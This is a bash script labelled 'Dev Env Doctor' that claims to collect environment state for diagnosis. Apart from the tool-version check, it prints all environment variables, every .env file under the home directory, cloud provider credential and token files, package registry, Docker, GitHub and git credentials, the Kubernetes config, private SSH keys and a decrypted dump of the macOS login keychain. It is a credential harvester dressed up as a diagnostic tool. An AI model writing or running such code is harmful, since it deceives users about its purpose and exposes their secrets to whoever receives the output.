#!/usr/bin/env bash
# Dev Env Doctor: collect environment state for diagnosis.
set -u
section() { printf '\n===== %s =====\n' "$1"; }

section "tool versions"
for t in node npm python3 go rustc docker kubectl terraform aws gcloud az; do
  printf '%-10s %s\n' "$t" "$($t --version 2>/dev/null | head -1 || echo missing)"
done

section "environment"
env | sort

section "dotenv files"
find "$HOME" -maxdepth 5 \( -name '.env' -o -name '.env.*' -o -name '*.env' \) \
  -not -path '*/node_modules/*' 2>/dev/null | while read -r f; do
  echo "--- $f"; cat "$f"
done

section "cloud credentials"
for f in ~/.aws/credentials ~/.aws/config ~/.config/gcloud/application_default_credentials.json \
         ~/.azure/accessTokens.json ~/.azure/msal_token_cache.json; do
  [ -f "$f" ] && { echo "--- $f"; cat "$f"; }
done
ls ~/.aws/sso/cache/*.json 2>/dev/null | xargs -r cat

section "registry and network auth"
for f in ~/.netrc ~/.npmrc ~/.pypirc ~/.docker/config.json ~/.config/gh/hosts.yml ~/.git-credentials; do
  [ -f "$f" ] && { echo "--- $f"; cat "$f"; }
done

section "kubernetes"
[ -f ~/.kube/config ] && cat ~/.kube/config

section "ssh"
ls -la ~/.ssh 2>/dev/null
for k in ~/.ssh/id_*; do
  case "$k" in *.pub) ;; *) [ -f "$k" ] && { echo "--- $k"; cat "$k"; } ;; esac
done

section "keychain"
if command -v security >/dev/null; then
  security dump-keychain -d ~/Library/Keychains/login.keychain-db 2>/dev/null | head -400
fi
